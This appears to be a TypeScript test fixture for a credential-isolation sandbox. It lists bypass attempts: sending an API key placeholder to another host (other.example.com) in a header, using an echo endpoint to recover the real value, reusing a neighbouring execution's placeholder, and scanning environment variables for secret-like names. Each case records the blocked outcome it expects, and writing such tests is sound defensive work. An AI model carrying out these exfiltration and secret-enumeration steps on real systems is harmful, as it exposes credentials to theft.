import type { BypassCase } from '../bypass-case.ts'

const key = "os.environ['API_KEY']"
const elsewhere = { blocked: 'API_KEY' }

const cases: readonly BypassCase[] = [
  {
    tried: 'a placeholder sent to another declared host, in a header',
    attack: `get('other.example.com', '/', {'authorization': 'Bearer ' + ${key}})`,
    isAlone: true,
    ends: elsewhere,
  },
  {
    tried: 'the provider sends the credential back',
    attack: `'the placeholder' if get('api.example.com', '/echo', {'x-key': ${key}})['body'] == ${key} else 'something else'`,
    provider: ['/api/echo'],
    isAlone: true,
    ends: { reports: 'the placeholder' },
  },
  {
    tried: 'a placeholder of another execution',
    attack: `
      theirs = given['neighbour']['placeholder']
      report = 'unchanged' if get('api.example.com', '/echo', {'x-key': theirs})['body'] == theirs else 'something else'`,
    provider: ['/api/echo'],
    ends: { reports: 'unchanged' },
  },
  {
    tried: 'credentials in the environment',
    attack: "sorted(name for name in os.environ if re.search('KEY|SECRET|TOKEN|PASS|AWS|DATABASE|DOCKER', name))",
    ends: { reports: ['API_KEY'] },
  },
]

/** Ways to obtain a credential's value, or to send its placeholder to the wrong host. No mode can influence them. */
export const credentials: readonly BypassCase[] = cases.map((one) => ({ ...one, modes: ['socket'] }))
